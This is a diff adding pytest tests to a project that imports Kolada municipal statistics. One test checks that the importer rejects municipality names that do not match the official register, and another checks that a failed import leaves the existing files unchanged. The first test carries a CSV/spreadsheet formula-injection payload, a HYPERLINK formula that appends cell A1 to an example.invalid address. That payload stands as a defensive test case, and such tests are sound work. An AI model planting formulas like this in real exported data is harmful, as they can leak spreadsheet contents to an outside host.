@@ -8,6 +8,9 @@ import pandas as pd
 import pytest
 
 from tests.helpers import NO_SOURCE_YML, VALDSBROTT_YML, kolada_dump, write_files
+from trygghet.cli import main
+from trygghet.data.indicators import load_meta
+from trygghet.data.register import load_register
 from trygghet.intake.kolada import (
     COLUMNS,
     KoladaImportError,
@@ -284,3 +287,41 @@ def test_a_broken_raw_file_is_explained_in_swedish(dump: Path, data_dir: Path) -
     with pytest.raises(KoladaImportError) as err:
         import_dump(dump, data_dir)
     assert "inte sparad som UTF-8" in str(err.value) and "codec" not in str(err.value)
+
+
+# -- a mirror's area names and an interrupted import (issue 19, classes 1 and 4) ----------------
+
+FORMULA_NAME = '"=HYPERLINK(""http://example.invalid/""&A1,""Klicka här"")"'
+
+
+def test_an_area_name_that_is_not_the_registers_is_never_stored(dump: Path,
+                                                                data_dir: Path) -> None:
+    entities = dump / "entities" / "ddf--entities--geo--kommun.csv"
+    entities.write_text(entities.read_text(encoding="utf-8").replace(
+        "0381,Enköping", f"0381,{FORMULA_NAME}"), encoding="utf-8")
+    with pytest.raises(KoladaImportError) as err:
+        import_dump(dump, data_dir)
+    message = str(err.value)
+    assert "stämmer inte med kommunregistret" in message
+    assert "område 0381 heter 'Enköping' i kommunregistret, men '=HYPERLINK(" in message
+    assert list((data_dir / "indicators").glob("*.csv")) == []
+
+
+def test_import_kolada_writes_every_file_or_none(data_copy: Path, tmp_path: Path,
+                                                 capsys) -> None:
+    # A dump with every KPI of the project but the population's: before, the indicator
+    # files were rewritten and then the population step failed.
+    metas = [load_meta(data_copy, p.stem) for p in (data_copy / "indicators").glob("*.yml")]
+    series = [s for m in metas for s in m.series if s.kolada_kpi]
+    by_year = {s.kolada_kpi.lower(): f"geo,year,{s.kolada_kpi.lower()}\n" for s in series}
+    by_gender = {s.kolada_kpi.lower(): f"geo,gender,year,{s.kolada_kpi.lower()}\n"
+                 for s in series if s.by_sex}
+    dump = kolada_dump(tmp_path / "dump", by_year, by_gender)
+    municipalities = [a for a in load_register().values() if a.type == "K"]
+    (dump / "entities" / "ddf--entities--geo--kommun.csv").write_text(
+        "kommun,name\n" + "".join(f"{a.code},{a.name}\n" for a in municipalities),
+        encoding="utf-8")
+    before = {p: p.read_bytes() for p in sorted(data_copy.rglob("*.csv"))}
+    assert main(["--root", str(data_copy.parent), "import-kolada", "--dump", str(dump)]) == 1
+    assert "n01951" in capsys.readouterr().err
+    assert {p: p.read_bytes() for p in sorted(data_copy.rglob("*.csv"))} == before
